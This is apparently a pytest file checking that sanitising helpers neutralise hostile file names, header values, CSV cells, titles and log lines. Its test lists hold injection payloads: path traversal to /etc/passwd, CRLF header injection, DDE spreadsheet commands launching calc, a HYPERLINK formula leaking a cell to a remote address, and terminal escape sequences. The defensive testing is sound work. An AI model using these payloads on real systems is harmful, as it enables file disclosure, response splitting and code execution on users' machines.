"""X04: the corpora of hostile names, cells, titles and log lines."""

import csv
import io
import unicodedata
import zipfile
from email.message import Message
from pathlib import Path, PureWindowsPath

import pytest

from core.leaving import (
    content_disposition,
    csv_cell,
    file_name,
    header_bytes,
    log_text,
    one_line,
)

SLIPS = [
    "../../etc/passwd",
    "..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "/etc/passwd",
    "//server/share/x",
    "\\\\server\\share\\x",
    "C:\\boot.ini",
    "C:evil.txt",
    "a/../../b",
    "..",
    ".",
    "...",
    "",
    " ",
    "....//....//etc/passwd",
    "..\u2215..\u2215etc",
    "..%2f..%2fetc%2fpasswd",
    "x\x00.png",
    "x.png\x00/../../y",
    "con",
    "NUL.txt",
    "com1.png",
    "LPT9",
    "trailing. ",
    "a" * 5000 + ".png",
    "ü" * 500 + ".png",
    "stream.txt:evil",
    "*?<>|.png",
    "\u202egnp.exe",
    "\ud800.png",
    "line\r\nbreak.png",
    '"quoted".png',
    "-rf",
]


@pytest.mark.parametrize("hostile", SLIPS)
def test_X04_an_archive_entry_stays_in_its_folder(hostile: str, tmp_path: Path) -> None:
    name = file_name(hostile)
    assert name
    assert len(name.encode()) <= 150
    assert not set(name) & set('/\\<>:"|?*\x00\r\n')
    assert name not in {".", ".."}
    assert not PureWindowsPath(name).is_reserved()
    assert not any(unicodedata.category(one) in {"Cc", "Cs"} for one in name)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as writing:
        writing.writestr(name, b"x")
    place = tmp_path / "unpacked"
    with zipfile.ZipFile(archive) as reading:
        reading.extractall(place)
    files = [path for path in tmp_path.rglob("*") if path.is_file()]
    assert [path.parent for path in files] == [place]


def test_a_harmless_name_stays_as_it_is() -> None:
    for name in ("card 1.png", "Rechnung-Nr. 7.pdf", "写真.jpg", "a'b(c)[d],e;f.txt"):
        assert file_name(name) == name
    assert file_name("a" * 300 + ".png").endswith("a.png")


CRLF = [
    "a\r\nSet-Cookie: x=1",
    "a\nX: 1",
    "a\rX: 1",
    'a"; filename="evil.exe',
    "a\x00b",
    "a\x85b",
    "a\u2028b",
    "a\ud83d",
    "naïve\u560a\u560dname.png",
    "x'y%0d%0aSet-Cookie:z.png",
    "\x1b[31mred",
]


@pytest.mark.parametrize("hostile", [*CRLF, *SLIPS])
def test_X04_a_file_name_adds_nothing_to_its_header(hostile: str) -> None:
    value = content_disposition("attachment", hostile)
    assert value.isascii()
    assert value.isprintable()
    read = Message()
    read["Content-Disposition"] = value
    assert read.get_content_disposition() == "attachment"
    assert {name for name, _ in read.get_params(header="content-disposition") or []} <= {
        "attachment",
        "filename",
    }
    assert value.count('"') == 2


def test_a_name_beyond_ascii_is_there_in_full() -> None:
    assert content_disposition("inline", "写真 1.jpg") == (
        "inline; filename=\"1.jpg\"; filename*=UTF-8''%E5%86%99%E7%9C%9F%201.jpg"
    )
    assert content_disposition("inline", "rnd_1.png") == 'inline; filename="rnd_1.png"'


def test_X04_no_header_breaks_its_line() -> None:
    for hostile in CRLF:
        value = header_bytes(hostile.encode("utf-8", "surrogatepass"))
        assert not set(value) & {0, 10, 13}
    assert header_bytes(b'W/"abc"; q=0.5') == b'W/"abc"; q=0.5'


FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    " =1",
    "\n=1",
    "\x00=1",
    "＝1+1",
    "＋1+x",
    "－1+x",
    "＠SUM(1)",
    '=HYPERLINK("http://x/?"&A1,"y")',
    "-2+3+cmd|' /C calc'!D2",
    "\ttab first",
]


@pytest.mark.parametrize("hostile", FORMULAS)
def test_X04_a_cell_is_never_a_formula(hostile: str) -> None:
    written = io.StringIO()
    csv.writer(written).writerow([csv_cell(hostile), csv_cell("next")])
    ((cell, after),) = csv.reader(io.StringIO(written.getvalue(), newline=""))
    assert cell == f"'{hostile}"
    assert after == "next"


@pytest.mark.parametrize("text", ["", "plain", "-12.5", "+3", "-4%", "a=b", "1e-9", "'quoted"])
def test_a_harmless_cell_stays_as_it_is(text: str) -> None:
    assert csv_cell(text) == text


@pytest.mark.parametrize("hostile", CRLF)
def test_X04_a_title_is_one_line_that_can_be_seen(hostile: str) -> None:
    title = one_line(hostile)
    assert title.splitlines() == [title]
    assert title.isprintable()
    assert one_line("a\r\nb\tc") == "a b c"
    assert len(one_line("x" * 9999)) == 500


@pytest.mark.parametrize("hostile", [*CRLF, "\x9b31m", "\x1b]0;title\x07", "\u202etxt.exe"])
def test_X04_a_log_line_is_one_line_without_orders_to_the_terminal(hostile: str) -> None:
    text = log_text(hostile)
    assert text.splitlines() == [text]
    assert text.isprintable()
    assert log_text("a\nb\x1b", keep="\n") == "a\nb\\x1b"
    assert log_text("Grüße, 世界 🎉") == "Grüße, 世界 🎉"
